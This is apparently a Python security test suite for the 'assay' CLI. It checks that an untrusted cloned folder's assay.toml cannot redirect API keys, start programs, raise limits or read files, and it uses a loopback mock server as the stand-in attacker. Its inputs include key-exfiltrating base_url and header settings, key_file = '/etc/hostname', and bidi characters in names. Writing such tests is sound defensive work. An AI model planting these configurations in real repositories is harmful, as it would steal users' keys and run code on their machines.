"""A cloned folder whose assay.toml helps itself: each power on its own, tried without a terminal, with keys about.

A server on the loopback stands for the stranger's address; programs of the folder leave a mark when they start. Nothing
may reach the one, nothing may start the other: the command ends with 1 before anything is asked.
"""
import json
import os
import pty
import shutil
import subprocess
import sys
import time
from pathlib import Path

import e2e
from mock_server import MockServer

from . import Attack

KEY = "sk-attack-0123456789abcdef"
CAUSE = "powers of ./assay.toml count only where they are trusted"
RESEARCH = ('version: 1\nid: d\ndocs:\n  - {id: one, title: One, url: "file:one.txt"}\n'
            'tests:\n  - {id: t, query: What?, doc_ids: [one], expected: {type: contains, text: x}}\n')


def environment(folder, **more):
    """A user of this attack's own, with keys; nothing of his is in the folder."""
    home = folder.parent / (folder.name + "-home")
    (home / "config").mkdir(parents=True, exist_ok=True)
    return {"HOME": str(home), "XDG_STATE_HOME": str(home / "state"), "XDG_CONFIG_HOME": str(home / "config"),
            "OPENAI_API_KEY": KEY, "SECRET_OF_MINE": "mine-0123456789", **more}


def mark(folder):
    """A program that says that it was started."""
    (folder / "mark.py").write_text(f"open({str(folder / 'started')!r}, 'w').close()\n")
    return f"exec:{sys.executable} mark.py"


def blueprint(model, more=""):
    return f"models: ['{model}']\n{more}---\nprompt: Say hi\nshould:\n  - $contains: hi\n"


def refused(folder, settings, suite, server, fragment, *words, env=None, code=1):
    """The run ends at once, names the power, reaches nobody, starts nothing; to trust it is what lets it through."""
    clone = folder / "clone"
    clone.mkdir(exist_ok=True)
    (clone / "assay.toml").write_text(settings)
    for name, text in (suite if isinstance(suite, dict) else {"s.yml": suite}).items():
        (clone / name).write_text(text)
    name = "m.toml" if isinstance(suite, dict) and "m.toml" in suite else "s.yml"
    env = environment(clone, **(env or {}))
    for command in (["check", name], ["plan", name], ["doctor", "--config"]):
        done = e2e.assay(*command, cwd=clone, env=env)
        if done.returncode not in (0, 1) or "nobody has trusted this folder" in done.stderr:
            return f"{command} asked or refused: {done.stderr}"
    result = e2e.assay("run", name, *words, cwd=clone, env=env)
    if server is not None and server.requests:
        return f"the stranger was asked: {server.requests}"
    if (clone / "started").exists():
        return f"a program started: {result.stderr}"
    if result.returncode != code or fragment not in result.stderr:
        return f"exit {result.returncode}, expected {code} and {fragment!r}: {result.stderr}"
    return None


def with_server(attack):
    def tries(folder):
        with MockServer() as server:
            return attack(folder, server)
    return tries


def address(folder, server):
    return refused(folder, f'[base_urls]\nopenai = "{server.url}/v1"\n', blueprint("openai:gpt-4o-mini"), server,
                   "asks openai at")


def address_of_judge(folder, server):
    suite = blueprint("echo:a").replace("$contains: hi", "It is polite")
    return refused(folder, f'[base_urls]\nopenai = "{server.url}/v1"\n', suite, server, "asks openai at",
                   "--judge", "openai:gpt-4o-mini")


def matrix(alias, more=""):
    return {"m.toml": f'dataset = "./q.yaml"\nsnapshot_root = "./snapshots"\noutput_root = "runs"\n{more}[[runs]]\n'
                      f'id = "r"\nmodel_alias = "{alias}"\nresearch_mode = false\nlean = true\n',
            "q.yaml": RESEARCH, "one.txt": "x\n"}


def alias_address(folder, server):
    return refused(folder, f'[models.gf]\nmodel = "openai-compatible:x"\nbase_url = "{server.url}/v1"\n'
                           'key_env = "SECRET_OF_MINE"\n', matrix("gf"), server, "with the key in SECRET_OF_MINE")


def alias_hides_behind_model(folder, server):
    """A second name for the same model, behind a trusted one."""
    own = environment(folder / "clone")["XDG_CONFIG_HOME"]
    (folder / "clone").mkdir()
    Path(own, "assay").mkdir(parents=True, exist_ok=True)
    Path(own, "assay/assay.toml").write_text('[models.mine]\nmodel = "openai-compatible:x"\n'
                                             'base_url = "http://127.0.0.1:9/v1"\n')
    suite = matrix("mine")
    suite["m.toml"] += '[[runs]]\nid = "s"\nmodel_alias = "gf"\nresearch_mode = false\nlean = true\n'
    return refused(folder, f'[models.gf]\nmodel = "openai-compatible:x"\nbase_url = "{server.url}/v1"\n', suite, server,
                   "has gf mean openai-compatible:x")


def alias_of_a_name_of_mine(folder, server):
    """The folder gives a name of the user's own another meaning."""
    own = Path(environment(folder / "clone")["XDG_CONFIG_HOME"], "assay")
    own.mkdir(parents=True, exist_ok=True)
    own.joinpath("assay.toml").write_text('[models.gf]\nmodel = "echo:a"\n')
    return refused(folder, f'[models.gf]\nmodel = "openai-compatible:x"\nbase_url = "{server.url}/v1"\n', matrix("gf"),
                   server, "has gf mean openai-compatible:x")


def alias_program(folder):
    (folder / "clone").mkdir()
    return refused(folder, f'[models.gf]\nmodel = "{mark(folder / "clone")}"\n', matrix("gf"), None, "as gf")


def collection_program(folder):
    (folder / "clone").mkdir()
    program = mark(folder / "clone")
    return refused(folder, f'[collections]\nMINE = ["{program}"]\n', blueprint("MINE"), None, "starts the program")


def judge_program(folder):
    (folder / "clone").mkdir()
    suite = blueprint("echo:a").replace("$contains: hi", "It is polite")
    return refused(folder, f'[judges]\nmodels = ["{mark(folder / "clone")}"]\n', suite, None, "starts as a judge")


def judge_program_behind_facts(folder):
    """Facts that let no plan be made, if they counted: the judge must be named all the same."""
    (folder / "clone").mkdir()
    suite = blueprint("echo:a").replace("$contains: hi", "It is polite")
    return refused(folder, f'[judges]\nmodels = ["{mark(folder / "clone")}"]\n[models."echo:*"]\nmax_output = 1\n'
                           '[collections]\nCORE = []\n', suite, None, "starts as a judge")


def allowed_program(folder):
    (folder / "clone").mkdir()
    program = mark(folder / "clone")
    return refused(folder, f'[allow]\nexec = ["{program}"]\n', blueprint(program), None, "lets suites start")


def allowed_variable(folder, server):
    custom = ("models:\n  - id: custom:x\n    url: http://models.invalid/v1\n    modelName: x\n    inherit: openai\n"
              "    headers: {X-Stolen: '${SECRET_OF_MINE}'}\n---\nprompt: Say hi\nshould:\n  - $contains: hi\n")
    return refused(folder, '[allow]\nenv = ["SECRET_OF_MINE"]\n', custom, server, "have SECRET_OF_MINE")


def allowed_host(folder, server):
    custom = (f"models:\n  - id: custom:x\n    url: {server.url}/v1/chat/completions\n    modelName: x\n"
              "    inherit: openai\n---\nprompt: Say hi\nshould:\n  - $contains: hi\n")
    return refused(folder, '[allow]\nhosts = ["127.0.0.1"]\n', custom, server, "lets suites reach 127.0.0.1")


def allowed_path(folder):
    (folder / "secret.yaml").write_text(RESEARCH)
    suite = matrix("echo:a")
    suite["m.toml"] = suite["m.toml"].replace('"./q.yaml"', '"../secret.yaml"')
    return refused(folder, '[allow]\npaths = ["/"]\n', suite, None, "lets suites read files below /")


def search(folder, server):
    suite = matrix("openai:gpt-4o-mini")
    return refused(folder, f'[research]\nsearch_url = "{server.url}"\n', suite, server, "searches the web at")


def summarizer(folder, server):
    return refused(folder, '[research]\nsummarizer = "openai:gpt-4o-mini"\n', matrix("openai:gpt-4o-mini"), server,
                   "has openai:gpt-4o-mini sum up")


def embedder(folder, server):
    return refused(folder, '[research]\nembedder = "openai:text-embedding-3-small"\n', matrix("echo:a"), server,
                   "make vectors of documents")


def prices(folder, server):
    return refused(folder, '[prices]\n"openai:gpt-4o*" = {input = 0, output = 0}\n', blueprint("openai:gpt-4o-mini"),
                   server, "the price of", "--budget-usd", "0.01", env={"OPENAI_BASE_URL": server.url})


def facts(folder, server):
    return refused(folder, '[models."openai:gpt-4o*"]\nmax_output = 1000000\n', blueprint("openai:gpt-4o-mini"), server,
                   "says what openai:gpt-4o* can do", env={"OPENAI_BASE_URL": server.url})


def agents_recording(model):
    """A recording that says when it was made, and nothing else: of an agent nobody can foresee what it asks."""
    def tries(folder, server):
        clone = folder / "clone"
        shutil.copytree(e2e.ROOT / "examples/research-agent/snapshots", clone / "snapshots")
        shutil.copy(e2e.ROOT / "examples/research-agent/questions.yaml", clone)
        suite = {"m.toml": 'dataset = "./questions.yaml"\nsnapshot_root = "./snapshots"\noutput_root = "runs"\n'
                           '[[runs]]\nid = "r"\nmodel_alias = "gf"\n',
                 "m.replay.jsonl": '{"v":3,"prompts":{"ms":1795412686918,"utc_offset_min":0}}\n'}
        return refused(folder, f'[models.gf]\nmodel = "{model}"\nbase_url = "{server.url}/v1"\nmax_turns = 200\n',
                       suite, server, f"has gf mean {model}")
    return tries


def stand_in_of_a_recording(folder):
    """The recording answers everything, with the word that the model was down: another stands in for it."""
    (folder / "clone").mkdir()
    program = mark(folder / "clone")
    request = {"v": 1, "model_call": "openai", "model": "gpt-4o-mini", "messages": [{"user": "Say hi"}],
               "temperature": 0}
    down = {"v": 2, "request": request, "error": {"class": "timeout", "message": "it was down"}}
    (folder / "clone/s.replay.jsonl").write_text(json.dumps(down, separators=(",", ":")) + "\n")
    suite = (f"models:\n  - {{model: 'openai:gpt-4o-mini', fallback: ['{program}']}}\n---\nprompt: Say hi\n"
             "should:\n  - $contains: hi\n")
    return refused(folder, f'[allow]\nexec = ["{program}"]\n', suite, None, "lets suites start")


def own_settings(folder, text):
    own = Path(environment(folder)["XDG_CONFIG_HOME"], "assay")
    own.mkdir(parents=True, exist_ok=True)
    own.joinpath("assay.toml").write_text(text)


def raised_of_provider_above_mine(key, mine, theirs):
    """The user's own limit is of all providers, the folder's of one."""
    def tries(folder, server):
        own_settings(folder / "clone", f"[limits]\n{key} = {mine}\n")
        return refused(folder, f"[limits.openai]\n{key} = {theirs}\n", blueprint("openai:gpt-4o-mini"), server,
                       f"raises {key} of openai", env={"OPENAI_BASE_URL": server.url})
    return tries


def lowered_after_trust(folder):
    """A limit that raised nothing when the folder was trusted was never shown."""
    env = environment(folder)
    own_settings(folder, "[limits]\nbudget_usd = 1000\n")
    (folder / "assay.toml").write_text("[limits]\nbudget_usd = 500\nmax_retries = 9\n")
    (folder / "s.yml").write_text(blueprint("echo:a"))
    trusted = e2e.assay("trust", "--trust=" + e2e.digest_of_powers(folder), cwd=folder, env=env)
    e2e.expect(trusted, 0)
    e2e.expect(e2e.assay("run", "s.yml", cwd=folder, env=env), 0)
    own_settings(folder, "[limits]\nbudget_usd = 1\n")
    result = e2e.assay("run", "s.yml", cwd=folder, env=env)
    return None if result.returncode == 1 and "raises budget_usd to 500" in result.stderr else result.stderr


def names_that_rewrite_the_screen(folder):
    (folder / "assay.toml").write_text('[models."a\\u0085\\u2028\\u202Eb"]\nmodel = "openai:a"\n'
                                       'base_url = "https://a.example"\n')
    result = e2e.assay("trust", "--print", "--json", cwd=folder, env=environment(folder))
    raw = [c for c in "\x85\u2028\u202e" if c in result.stdout]
    power, = json.loads(result.stdout)["powers"]
    return None if not raw and power["setting"] == "models.a\x85\u2028\u202eb" else f"{raw} {power}"


def raised(key, value):
    def tries(folder):
        return refused(folder, f"[limits]\n{key} = {value}\n", blueprint("echo:a"), None, f"raises {key}")
    return tries


def raised_above_mine(folder):
    own = Path(environment(folder / "clone")["XDG_CONFIG_HOME"], "assay")
    own.mkdir(parents=True, exist_ok=True)
    own.joinpath("assay.toml").write_text("[limits]\nbudget_usd = 1\n")
    return refused(folder, "[limits]\nbudget_usd = 1000\n", blueprint("echo:a"), None, "raises budget_usd to 1000")


def raised_of_provider(folder, server):
    return refused(folder, "[limits.openai]\nmax_in_flight = 500\n", blueprint("openai:gpt-4o-mini"), server,
                   "raises max_in_flight of openai", env={"OPENAI_BASE_URL": server.url})


def turns(folder):
    return refused(folder, '[models.gf]\nmodel = "echo:a"\nmax_turns = 200\n', matrix("gf"), None, "max_turns to 200")


def asky(folder, server):
    home = folder / "clone/asky"
    home.mkdir(parents=True)
    (home / "api.toml").write_text(f'[api.a]\nurl = "{server.url}/v1/chat/completions"\n'
                                   'api_key_env = "SECRET_OF_MINE"\n')
    (home / "models.toml").write_text('[models.gf]\nid = "x"\napi = "a"\n')
    return refused(folder, "", matrix("gf"), server, "asky configuration", env={"ASKY_HOME": "asky"})


def store_elsewhere(folder):
    return refused(folder, f"[run]\nstore = '{folder}/elsewhere.db'\n", blueprint("echo:a"), None,
                   "keeps runs and their answers at") or (
        "a store was made" if (folder / "elsewhere.db").exists() else None)


def file_as_key(folder):
    return refused(folder, "[providers.openai]\nkey_file = '/etc/hostname'\n", blueprint("openai:gpt-4o-mini"), None,
                   "sends what /etc/hostname holds to openai")


def no_such_key(key):
    """Keys of other programs, or of times to come, have no effect."""
    def tries(folder):
        clone = folder / "clone"
        clone.mkdir()
        (clone / "assay.toml").write_text(f"[run]\n{key} = '{folder}/elsewhere'\n")
        (clone / "s.yml").write_text(blueprint("echo:a"))
        result = e2e.assay("run", "s.yml", cwd=clone, env=environment(clone))
        if (folder / "elsewhere").exists() or f'unknown key "{key}"' not in result.stderr:
            return result.stderr
        return None
    return tries


def trusting_in_ci(words, env):
    def tries(folder):
        (folder / "assay.toml").write_text("[limits]\nmax_retries = 9\n")
        (folder / "s.yml").write_text(blueprint("echo:a"))
        result = e2e.assay(*words, cwd=folder, env=environment(folder, **env))
        is_refused = result.returncode == 1 and "digest" in result.stderr.lower()
        return None if is_refused else f"{result.returncode} {result.stderr}"
    return tries


def changed_after_digest(folder, server):
    """A fork changes the address behind a digest that the workflow trusts."""
    (folder / "assay.toml").write_text('[base_urls]\nopenai = "https://models.example/v1"\n')
    (folder / "s.yml").write_text(blueprint("openai:gpt-4o-mini"))
    digest = e2e.digest_of_powers(folder)
    (folder / "assay.toml").write_text(f'[base_urls]\nopenai = "{server.url}/v1"\n')
    for words, more in ((["--trust=" + digest], {}), ([], {"ASSAY_TRUST": digest})):
        result = e2e.assay("run", "s.yml", *words, cwd=folder, env=environment(folder, **more))
        if result.returncode != 1 or server.requests or "names other powers" not in result.stderr:
            return f"{result.returncode} {result.stderr} {server.requests}"
    return None


def added_after_trust(folder, server):
    """What was trusted goes on; what was added is asked for alone."""
    env = environment(folder)
    (folder / "assay.toml").write_text("[limits]\nmax_retries = 0\ntimeout = 601\n")
    (folder / "s.yml").write_text(blueprint("openai:gpt-4o-mini"))
    digest = e2e.digest_of_powers(folder)
    e2e.expect(e2e.assay("trust", "--trust=" + digest, cwd=folder, env=env), 0)
    (folder / "assay.toml").write_text("[limits]\nmax_retries = 0\ntimeout = 601\n"
                                       f'[base_urls]\nopenai = "{server.url}/v1"\n')
    result = e2e.assay("run", "s.yml", cwd=folder, env=env)
    if result.returncode != 1 or "asks openai at" not in result.stderr or "timeout" in result.stderr:
        return result.stderr
    other = folder.parent / (folder.name + "-copy")
    other.mkdir()
    for name in ("assay.toml", "s.yml"):
        (other / name).write_text((folder / name).read_text())
    elsewhere = e2e.assay("run", "s.yml", cwd=other, env=env)
    return None if elsewhere.returncode == 1 and "timeout" in elsewhere.stderr else "another folder was trusted as well"


def memory_in_the_folder(folder):
    """A state folder that came with the clone is nobody's memory."""
    (folder / "assay.toml").write_text("[limits]\nmax_retries = 9\n")
    (folder / "s.yml").write_text(blueprint("echo:a"))
    for place in (".local/state/assay", "state/assay", ".assay", "assay"):
        (folder / place).mkdir(parents=True, exist_ok=True)
        (folder / place / "trusted.json").write_text(json.dumps({str(folder.resolve()): {"digest": "", "powers": []}}))
    result = e2e.assay("run", "s.yml", cwd=folder, env=environment(folder))
    return None if result.returncode == 1 else result.stderr


def no_means_no(folder, server):
    """On a terminal: the question has a line for the power, and no ends it with nothing sent."""
    (folder / "assay.toml").write_text(f'[base_urls]\nopenai = "{server.url}/v1"\n')
    (folder / "s.yml").write_text(blueprint("openai:gpt-4o-mini"))
    for answer, code in (("n\n", 1), ("y\n", 0)):
        env = e2e.clean_environment({**environment(folder), "TERM": "xterm"})
        env.pop("CI")
        ours, theirs = pty.openpty()
        with subprocess.Popen([e2e.PROGRAM, "run", "s.yml"], cwd=folder, env=env, stdin=theirs, stdout=theirs,
                              stderr=theirs) as process:
            os.close(theirs)
            os.write(ours, answer.encode())
            said = b""
            while True:
                try:
                    piece = os.read(ours, 4096)
                except OSError:
                    break
                if not piece:
                    break
                said += piece
        os.close(ours)
        if b"asks openai at" not in said or b"trust it here" not in said:
            return f"it was not asked: {said!r}"
        if process.returncode != code or bool(server.requests) != (code == 0):
            return f"{answer!r}: exit {process.returncode}, {len(server.requests)} requests: {said!r}"
    again = e2e.assay("run", "s.yml", "--fresh", cwd=folder, env=environment(folder))
    return None if again.returncode == 0 else f"it is not remembered: {again.stderr}"


def watch_ends(folder, server):
    """The folder changes its powers while somebody watches it."""
    (folder / "s.yml").write_text(blueprint("echo:a"))
    with e2e.start("run", "s.yml", "--watch", cwd=folder, env=environment(folder)) as process:
        deadline = time.monotonic() + 60
        while "watching" not in (line := process.stderr.readline()) and time.monotonic() < deadline and line:
            pass
        (folder / "assay.toml").write_text(f'[base_urls]\nopenai = "{server.url}/v1"\n')
        _, told = process.communicate(timeout=60)
    return None if process.returncode == 1 and "has changed" in told else f"{process.returncode} {told}"


ATTACKS = [
    Attack("[base_urls] takes the user's key to its address", CAUSE, with_server(address), fast=True),
    Attack("[base_urls] takes the key of the judge", CAUSE, with_server(address_of_judge)),
    Attack("[models.NAME] takes any variable to its address", CAUSE, with_server(alias_address), fast=True),
    Attack("[models.NAME] behind a trusted name of the same model", CAUSE, with_server(alias_hides_behind_model)),
    Attack("[models.NAME] with a name of the user's own", CAUSE, with_server(alias_of_a_name_of_mine)),
    Attack("[models.NAME] starts a program", CAUSE, alias_program, fast=True),
    Attack("[collections] starts a program", CAUSE, collection_program),
    Attack("[judges] starts a program", CAUSE, judge_program),
    Attack("[judges] starts a program behind facts that allow no plan", CAUSE, judge_program_behind_facts),
    Attack("[allow] exec starts the suite's program", CAUSE, allowed_program),
    Attack("[allow] env gives the suite a variable", CAUSE, with_server(allowed_variable)),
    Attack("[allow] hosts lets the suite reach this machine", CAUSE, with_server(allowed_host)),
    Attack("[allow] paths = [\"/\"]", CAUSE, allowed_path, fast=True),
    Attack("[research] search_url", CAUSE, with_server(search)),
    Attack("[research] summarizer", CAUSE, with_server(summarizer)),
    Attack("[research] embedder", CAUSE, with_server(embedder)),
    Attack("[prices] makes a budget void", CAUSE, with_server(prices)),
    Attack("facts of a model", CAUSE, with_server(facts)),
    Attack("[limits] max_retries", CAUSE, raised("max_retries", 50)),
    Attack("[limits] max_errors lets a broken run pass", CAUSE, raised("max_errors", '"100%"')),
    Attack("[limits] timeout", CAUSE, raised("timeout", 6000)),
    Attack("[limits] idle_timeout", CAUSE, raised("idle_timeout", 6000)),
    Attack("[limits] max_in_flight", CAUSE, raised("max_in_flight", 5000)),
    Attack("[limits] budget_usd above the user's own", CAUSE, raised_above_mine),
    Attack("[limits.PROVIDER]", CAUSE, with_server(raised_of_provider)),
    Attack("[limits.PROVIDER] max_in_flight above the user's own of all", CAUSE,
           with_server(raised_of_provider_above_mine("max_in_flight", 2, 10))),
    Attack("[limits.PROVIDER] requests_per_min above the user's own of all", CAUSE,
           with_server(raised_of_provider_above_mine("requests_per_min", 6, 100000))),
    Attack("[limits.PROVIDER] tokens_per_min above the user's own of all", CAUSE,
           with_server(raised_of_provider_above_mine("tokens_per_min", 1000, 100000000))),
    Attack("[models.NAME] behind a recording of an agent", CAUSE,
           with_server(agents_recording("openai-compatible:x"))),
    Attack("[models.NAME] behind such a recording, its provider in capitals", CAUSE,
           with_server(agents_recording("OpenAI:gpt-4o"))),
    Attack("[allow] exec of a stand-in behind a recording", CAUSE, stand_in_of_a_recording),
    Attack("[models.NAME] max_turns", CAUSE, turns),
    Attack("an asky configuration in the folder", CAUSE, with_server(asky)),
    Attack("[run] store has answers kept, and come, elsewhere", CAUSE, store_elsewhere),
    Attack("[providers.NAME] key_file sends any file to a service", CAUSE, file_as_key),
    Attack("[run] cache", "unknown keys have no effect", no_such_key("cache")),
    Attack("[run] key_file", "unknown keys have no effect", no_such_key("key_file")),
    Attack("--trust with CI set", "in CI trust has a digest", trusting_in_ci(["run", "s.yml", "--trust"], {})),
    Attack("assay trust with CI set", "in CI trust has a digest", trusting_in_ci(["trust"], {})),
    Attack("ASSAY_TRUST=true", "in CI trust has a digest", trusting_in_ci(["run", "s.yml"], {"ASSAY_TRUST": "true"})),
    Attack("a change behind a trusted digest", "in CI trust has a digest", with_server(changed_after_digest)),
    Attack("a power that was added to trusted ones", "trust is remembered by folder and power",
           with_server(added_after_trust)),
    Attack("a limit that was not shown when the folder was trusted", "trust is remembered by folder and power",
           lowered_after_trust),
    Attack("names of powers that rewrite the screen", "what is shown is what is trusted",
           names_that_rewrite_the_screen),
    Attack("a memory of trust that came with the folder", "trust is remembered by folder and power",
           memory_in_the_folder),
    Attack("no on a terminal", "the user is asked", with_server(no_means_no)),
    Attack("powers that change under --watch", "the user is asked", with_server(watch_ends), slow=True),
]
